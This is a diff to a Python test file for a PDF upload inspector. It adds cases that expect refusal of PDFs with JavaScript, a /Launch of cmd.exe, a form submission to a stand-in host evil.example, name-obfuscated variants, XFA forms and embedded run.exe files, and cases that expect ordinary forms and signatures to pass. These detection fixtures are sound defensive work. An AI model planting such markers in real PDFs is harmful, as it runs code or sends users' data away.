@@ -15,7 +15,9 @@ from shared.domain.document_content import (
     NOT_WHAT_IT_SAYS,
     PASSWORD,
     PDF_CLOSED,
+    PDF_WITH_FILES,
     PDF_WITH_PROGRAM,
+    PDF_WITH_XFA,
     TOO_LARGE,
     UNPACKS_TOO_LARGE,
     WITH_MACROS,
@@ -66,9 +68,47 @@ def test_a_header_that_does_not_stand_at_the_beginning_is_none() -> None:
     assert inspect(DOCX, files.HTML + files.docx(), MOST).reason == NOT_WHAT_IT_SAYS
 
 
-@pytest.mark.parametrize("mark", [b"/S /JavaScript /JS (app.alert(1))", b"/S /Launch /F (cmd.exe)"])
-def test_a_pdf_that_runs_something_is_refused(mark: bytes) -> None:
-    assert inspect("application/pdf", files.PDF + mark, MOST).reason == PDF_WITH_PROGRAM
+@pytest.mark.parametrize(
+    ("mark", "reason"),
+    [
+        (b"/S /JavaScript /JS (app.alert(1))", PDF_WITH_PROGRAM),
+        (b"/S /Launch /F (cmd.exe)", PDF_WITH_PROGRAM),
+        (b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>", PDF_WITH_PROGRAM),
+        (b"/OpenAction << /S /Submit#46orm /F (https://evil.example/) >>", PDF_WITH_PROGRAM),
+        (b"/S /ImportData /F (a.fdf)", PDF_WITH_PROGRAM),
+        (b"/Subtype /RichMedia /RichMediaContent 5 0 R", PDF_WITH_PROGRAM),
+        (b"/S /Rendition /JS (app.alert(1))", PDF_WITH_PROGRAM),
+        (b"/AcroForm << /XFA 5 0 R /Fields [] >>", PDF_WITH_XFA),
+        (b"/AcroForm << /XFA[(template) 5 0 R] /Fields [] >>", PDF_WITH_XFA),
+        (b"/AcroForm << /#58FA%\n5 0 R /Fields [] >>", PDF_WITH_XFA),
+        (b"/Names << /EmbeddedFiles << /Names [(run.exe) 6 0 R] >> >>", PDF_WITH_FILES),
+        (b"/Type /Annot /Subtype /FileAttachment /FS 6 0 R", PDF_WITH_FILES),
+        (b"/OpenAction << /S /GoToE /T << /R /C /N (run.exe) >> >>", PDF_WITH_FILES),
+    ],
+)
+def test_a_pdf_that_runs_sends_or_holds_something_is_refused(mark: bytes, reason: str) -> None:
+    assert inspect("application/pdf", files.PDF + mark, MOST).reason == reason
+    packed = with_objects(*PAGES, b"<< " + mark + b" >>")
+    assert inspect("application/pdf", packed, MOST).reason == reason
+
+
+@pytest.mark.parametrize(
+    "mark",
+    [
+        b"/AcroForm << /Fields [7 0 R] /DA (/Helv 0 Tf 0 g) /NeedAppearances true /SigFlags 3 >>",
+        b"/Type /Annot /Subtype /Widget /FT /Tx /T (Name) /V (Mona) /AP << /N 8 0 R >>",
+        b"/FT /Btn /T (clear) /A << /S /ResetForm >>",
+        b"/FT /Sig /V << /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached >>",
+        b"/Subtype /Link /A << /S /URI /URI (https://www.example.org/) >>",
+        b"/OpenAction [3 0 R /XYZ null null 0] /Names << /Dests 5 0 R >> /AF [6 0 R]",
+        b"/BaseFont /XFAXYZ+Calibri",
+        b"\x00/XFA\x9c\x81/XFA/XFA",
+    ],
+)
+def test_a_pdf_as_people_have_it_is_clean_forms_filled_in_and_signed_too(mark: bytes) -> None:
+    """Fields, signatures, links, a page to begin at, a font's name, and what a picture's bytes may spell."""
+    assert inspect("application/pdf", files.PDF + mark, MOST).reason == ""
+    assert inspect("application/pdf", with_objects(*PAGES, b"<< " + mark + b" >>"), MOST).reason == ""
 
 
 RUNS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
